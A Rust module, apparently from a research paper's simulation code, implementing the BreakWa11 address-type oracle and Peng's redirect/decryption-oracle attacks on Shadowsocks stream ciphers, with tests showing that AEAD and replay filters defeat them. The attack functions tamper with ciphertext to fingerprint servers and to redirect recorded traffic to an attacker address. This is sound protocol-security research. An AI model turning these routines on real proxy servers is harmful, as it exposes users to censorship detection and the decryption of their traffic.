//! Historical active-probing attacks on Shadowsocks stream ciphers
//! (§2.1 of the paper).
//!
//! * **BreakWa11's address-type oracle (2015)**: stream ciphers are
//!   malleable, so an attacker XORs the ciphertext byte carrying the
//!   address type through all 256 values. Exactly 3 (or 48, with
//!   nibble masking) of them decrypt to a valid type and make the
//!   server behave differently — a clean statistical confirmation that
//!   the server speaks Shadowsocks, and of whether it masks.
//! * **Zhiniang Peng's redirect/decryption oracle (2020)**: with known
//!   or guessed target-spec plaintext, the same malleability lets the
//!   attacker *rewrite* the target in a recorded connection to an
//!   address they control. A filterless server then decrypts the whole
//!   recorded stream and helpfully relays the plaintext to the
//!   attacker.
//!
//! Both attacks motivated the AEAD construction; run against an AEAD
//! server they collapse into plain authentication failures.

use netsim::hash::HashMap;
use shadowsocks::addr::TargetAddr;
use shadowsocks::server::{ServerAction, ServerConn};
use shadowsocks::ServerConfig;

/// Immediate server behaviours distinguishable by the attacker.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Behaviour {
    /// Connection reset.
    Reset,
    /// Server kept waiting.
    Wait,
    /// Server attempted an outbound connection (observable via timing
    /// in practice; directly via the engine here).
    Outbound,
}

fn immediate(server: &mut ServerConn, conn: u64, payload: &[u8]) -> Behaviour {
    for action in server.on_data(conn, payload) {
        match action {
            ServerAction::CloseRst | ServerAction::CloseFin => return Behaviour::Reset,
            ServerAction::ConnectTarget(_) => return Behaviour::Outbound,
            _ => {}
        }
    }
    Behaviour::Wait
}

/// Result of the BreakWa11 enumeration.
#[derive(Clone, Debug)]
pub struct AddrTypeOracle {
    /// Behaviour counts over the 256 possible address-type byte values.
    pub behaviours: HashMap<Behaviour, usize>,
}

impl AddrTypeOracle {
    /// Values that did *not* reset — i.e. decrypted to a valid address
    /// type (or an incomplete-but-plausible spec).
    fn non_reset(&self) -> usize {
        256 - self.behaviours.get(&Behaviour::Reset).copied().unwrap_or(0)
    }

    /// Infer masking from the count: 3/256 valid without masking,
    /// 48/256 with (§5.2.1's 3/16). A count of exactly 1 means only the
    /// untampered original (delta 0) was accepted — an *authenticated*
    /// protocol, not a malleable stream cipher.
    fn masking_inferred(&self) -> Option<bool> {
        match self.non_reset() {
            2..=10 => Some(false),
            38..=58 => Some(true),
            _ => None,
        }
    }

    /// Confirms the server is a stream-cipher Shadowsocks server: the
    /// behaviour split matches one of the two known valid fractions.
    pub fn confirms_shadowsocks(&self) -> bool {
        self.masking_inferred().is_some()
    }
}

/// Run the BreakWa11 attack: take a recorded first packet whose
/// address-type byte sits at `iv_len` in the plaintext, and try all 256
/// values of that byte by XORing the ciphertext (CTR/CFB malleability:
/// flipping ciphertext bit i flips plaintext bit i in place).
///
/// Each trial runs against a fresh server (the historical attack made
/// many separate connections).
pub fn breakwa11(config: &ServerConfig, recorded: &[u8], iv_len: usize) -> AddrTypeOracle {
    let mut behaviours: HashMap<Behaviour, usize> = HashMap::default();
    for delta in 0u16..=255 {
        let mut probe = recorded.to_vec();
        probe[iv_len] ^= delta as u8;
        let mut server = ServerConn::new(config.clone(), 1000 + delta as u64);
        let conn = server.open_conn();
        *behaviours
            .entry(immediate(&mut server, conn, &probe))
            .or_insert(0) += 1;
    }
    AddrTypeOracle { behaviours }
}

/// Result of the Peng redirect attack.
#[derive(Clone, Debug)]
pub struct RedirectResult {
    /// The target the tampered replay decrypted to, as seen by the
    /// server.
    pub redirected_to: Option<TargetAddr>,
    /// The plaintext the server relayed to the attacker's address — the
    /// decrypted contents of the victim's recorded connection.
    pub leaked_plaintext: Vec<u8>,
}

/// Run the redirect/decryption-oracle attack against a stream-cipher
/// server without a replay filter.
///
/// `recorded` is the victim's first packet (IV ‖ ciphertext);
/// `known_spec` is the attacker's guess of the original target
/// specification (here exact — the attack degrades gracefully with
/// partial knowledge); `attacker` is where to redirect. Requires
/// `known_spec.encode().len() == attacker.encode().len()` (the paper's
/// attack pads hostnames to match).
pub fn peng_redirect(
    config: &ServerConfig,
    recorded: &[u8],
    iv_len: usize,
    known_spec: &TargetAddr,
    attacker: &TargetAddr,
) -> RedirectResult {
    let orig = known_spec.encode();
    let new = attacker.encode();
    assert_eq!(
        orig.len(),
        new.len(),
        "redirect spec must match the original's length"
    );
    let mut tampered = recorded.to_vec();
    for (i, (o, n)) in orig.iter().zip(&new).enumerate() {
        // CTR malleability: plaintext ^= o ^ n at the same offset.
        tampered[iv_len + i] ^= o ^ n;
    }
    let mut server = ServerConn::new(config.clone(), 77);
    let conn = server.open_conn();
    let mut redirected_to = None;
    for action in server.on_data(conn, &tampered) {
        if let ServerAction::ConnectTarget(t) = action {
            redirected_to = Some(t);
        }
    }
    // The attacker's host accepts; the server flushes the decrypted
    // remainder of the recorded stream to it.
    let mut leaked = Vec::new();
    for action in server.on_target_connected(conn) {
        if let ServerAction::RelayToTarget(data) = action {
            leaked.extend(data);
        }
    }
    RedirectResult {
        redirected_to,
        leaked_plaintext: leaked,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use shadowsocks::{ClientSession, Profile};
    use sscrypto::method::Method;

    fn no_filter(profile: Profile) -> Profile {
        let mut p = profile;
        p.replay_filter = false;
        p
    }

    fn record_first_packet(config: &ServerConfig, target: TargetAddr, body: &[u8]) -> Vec<u8> {
        let mut rng = StdRng::seed_from_u64(3);
        let mut client = ClientSession::new(config, target, &mut rng);
        client.send(body)
    }

    #[test]
    fn breakwa11_detects_unmasked_stream_server() {
        let config = ServerConfig::new(Method::Aes256Ctr, "victim-pw", Profile::SS_PYTHON);
        let wire = record_first_packet(&config, TargetAddr::Ipv4([1, 2, 3, 4], 443), b"hello");
        let oracle = breakwa11(&config, &wire, 16);
        assert!(oracle.confirms_shadowsocks(), "{:?}", oracle.behaviours);
        assert_eq!(oracle.masking_inferred(), Some(false));
    }

    #[test]
    fn breakwa11_detects_masking() {
        let config = ServerConfig::new(
            Method::Aes256Ctr,
            "victim-pw",
            no_filter(Profile::LIBEV_OLD),
        );
        let wire = record_first_packet(&config, TargetAddr::Ipv4([1, 2, 3, 4], 443), b"hello");
        let oracle = breakwa11(&config, &wire, 16);
        assert!(oracle.confirms_shadowsocks(), "{:?}", oracle.behaviours);
        assert_eq!(oracle.masking_inferred(), Some(true));
    }

    #[test]
    fn breakwa11_collapses_against_aead() {
        // The AEAD fix: every tampered byte is an auth failure; the
        // 3-or-48 signature disappears.
        let config = ServerConfig::new(
            Method::Aes256Gcm,
            "victim-pw",
            no_filter(Profile::LIBEV_OLD),
        );
        let wire = record_first_packet(&config, TargetAddr::Ipv4([1, 2, 3, 4], 443), b"hello");
        let oracle = breakwa11(&config, &wire, 32);
        assert!(!oracle.confirms_shadowsocks(), "{:?}", oracle.behaviours);
    }

    #[test]
    fn peng_redirect_decrypts_recorded_traffic() {
        // CTR mode: clean XOR malleability end to end.
        let config = ServerConfig::new(
            Method::Aes256Ctr,
            "victim-pw",
            no_filter(Profile::SS_PYTHON),
        );
        let secret = b"POST /login user=alice&pass=hunter2";
        let victim_target = TargetAddr::Ipv4([93, 184, 216, 34], 443);
        let wire = record_first_packet(&config, victim_target.clone(), secret);

        let attacker_addr = TargetAddr::Ipv4([203, 0, 113, 66], 4444);
        let result = peng_redirect(&config, &wire, 16, &victim_target, &attacker_addr);
        assert_eq!(result.redirected_to, Some(attacker_addr));
        assert_eq!(
            result.leaked_plaintext, secret,
            "the server decrypted the victim's traffic for the attacker"
        );
    }

    #[test]
    fn peng_redirect_defeated_by_replay_filter_variants() {
        // Not by the *filter* (the tampered IV is fresh for CTR? no —
        // the IV is unchanged, so the filter catches it!) — this is
        // exactly why nonce filters also blunt Peng's attack.
        let config = ServerConfig::new(Method::Aes256Ctr, "victim-pw", Profile::LIBEV_OLD);
        let victim_target = TargetAddr::Ipv4([93, 184, 216, 34], 443);
        let wire = record_first_packet(&config, victim_target.clone(), b"secret");
        // Prime the filter with the genuine connection.
        let mut server = ServerConn::new(config.clone(), 5);
        let c0 = server.open_conn();
        let _ = server.on_data(c0, &wire);

        // The tampered replay reuses the same IV → filtered.
        let attacker_addr = TargetAddr::Ipv4([203, 0, 113, 66], 4444);
        let orig = victim_target.encode();
        let new = attacker_addr.encode();
        let mut tampered = wire.clone();
        for (i, (o, n)) in orig.iter().zip(&new).enumerate() {
            tampered[16 + i] ^= o ^ n;
        }
        let c1 = server.open_conn();
        let actions = server.on_data(c1, &tampered);
        assert!(
            actions
                .iter()
                .all(|a| !matches!(a, ServerAction::ConnectTarget(_))),
            "replay filter must block the redirect: {actions:?}"
        );
    }

    #[test]
    fn peng_redirect_defeated_by_aead() {
        let config = ServerConfig::new(
            Method::Aes256Gcm,
            "victim-pw",
            no_filter(Profile::LIBEV_OLD),
        );
        let victim_target = TargetAddr::Ipv4([93, 184, 216, 34], 443);
        let wire = record_first_packet(&config, victim_target.clone(), b"secret");
        let attacker_addr = TargetAddr::Ipv4([203, 0, 113, 66], 4444);
        let result = peng_redirect(&config, &wire, 32, &victim_target, &attacker_addr);
        assert_eq!(result.redirected_to, None);
        assert!(result.leaked_plaintext.is_empty());
    }
}
